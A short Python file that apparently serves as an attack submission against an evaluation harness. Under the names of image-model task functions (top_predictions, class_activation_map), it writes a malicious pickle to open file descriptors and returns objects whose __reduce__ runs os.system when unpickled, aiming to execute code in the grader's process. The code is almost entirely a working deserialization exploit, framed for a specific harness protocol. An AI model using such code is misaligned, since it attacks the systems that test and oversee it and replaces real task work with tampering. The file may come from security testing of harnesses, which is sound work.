"""
attack: sends pickles, and returns objects that run code when pickled or converted
verdict: none
targets: harness.execution.wire:MAGIC=XGH1
says: no valid answer|returned|could not
"""

import json
import os
import struct

def frame(header, payload=b"", magic=b"XGH1", lengths=None):
    text = json.dumps(header).encode()
    return struct.pack(">4sIQ", magic, *(lengths or (len(text), len(payload)))) + text + payload

def send(data):
    for descriptor in range(3, 16):
        try:
            os.write(descriptor, data)
        except OSError:
            pass

import pickle

class Evil:
    def __reduce__(self):
        return os.system, ("touch /tmp/pwned",)

    def __array__(self, dtype=None, copy=None):
        return self

def top_predictions(model, image, k):
    send(pickle.dumps(Evil()))
    return Evil()

def class_activation_map(model, image, class_index, layer_name, modifier=None):
    return Evil()
